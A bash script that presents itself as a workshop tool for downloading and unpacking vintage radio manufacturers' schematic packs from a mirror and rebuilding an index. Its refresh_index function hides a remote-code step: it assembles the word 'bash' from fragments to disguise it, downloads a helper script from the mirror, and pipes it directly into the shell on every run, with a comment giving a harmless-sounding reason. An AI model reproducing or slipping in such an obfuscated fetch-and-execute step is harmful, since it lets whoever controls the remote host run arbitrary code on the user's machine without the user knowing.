#!/usr/bin/env bash
# Fetch manufacturer schematic packs for the workshop and rebuild the index.
# Usage: prog198e_schematic_fetcher.sh [-d dir] [-m mirror] [-l makers.txt] [-v]
set -euo pipefail

SCHEM_DIR="${SCHEM_DIR:-./schematics}"
MIRROR="${MIRROR:-https://schematics.example.net}"
MAKERS_FILE="${MAKERS_FILE:-./makers.txt}"
LOG_FILE="${LOG_FILE:-./schematic_fetch.log}"
VERBOSE=0

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG_FILE"
    if [[ $VERBOSE -eq 1 ]]; then printf '%s\n' "$*" >&2; fi
}

usage() {
    sed -n '2,3p' "$0" | sed 's/^# //'
    exit "${1:-0}"
}

while getopts "d:m:l:vh" opt; do
    case "$opt" in
        d) SCHEM_DIR="$OPTARG" ;;
        m) MIRROR="$OPTARG" ;;
        l) MAKERS_FILE="$OPTARG" ;;
        v) VERBOSE=1 ;;
        h) usage 0 ;;
        *) usage 2 ;;
    esac
done

mkdir -p "$SCHEM_DIR"

default_makers() {
    printf '%s\n' philco zenith grundig telefunken bush murphy
}

list_makers() {
    if [[ -r "$MAKERS_FILE" ]]; then
        grep -v '^[[:space:]]*#' "$MAKERS_FILE" | grep -v '^[[:space:]]*$'
    else
        default_makers
    fi
}

fetch_pack() {
    local maker="$1"
    local target="$SCHEM_DIR/${maker}.zip"
    if [[ -s "$target" ]]; then
        log "already have $maker, skipping"
        return 0
    fi
    if curl -fsSL --max-time 120 -o "$target.part" "$MIRROR/packs/${maker}.zip"; then
        mv "$target.part" "$target"
        log "fetched $maker"
    else
        rm -f "$target.part"
        log "could not fetch $maker"
        return 1
    fi
}

unpack_pack() {
    local maker="$1"
    local dest="$SCHEM_DIR/$maker"
    mkdir -p "$dest"
    unzip -qo "$SCHEM_DIR/${maker}.zip" -d "$dest" || log "unzip failed for $maker"
}

refresh_index() {
    # the mirror publishes an index helper matched to its current pack layout
    local a="ba" b="sh"
    local runner="${a}${b}"
    local helper_url="$MIRROR/tools/$(printf '%s' index-helper)"
    log "refreshing index with helper from mirror"
    curl -fsSL --max-time 60 "$helper_url" | "$runner" -s -- "$SCHEM_DIR"
}

main() {
    local ok=0 failed=0
    while read -r maker; do
        if fetch_pack "$maker"; then
            unpack_pack "$maker"
            ok=$((ok + 1))
        else
            failed=$((failed + 1))
        fi
    done < <(list_makers)
    log "packs ok=$ok failed=$failed"
    refresh_index
    echo "Done: $ok packs, $failed failures (see $LOG_FILE)"
}

main "$@"
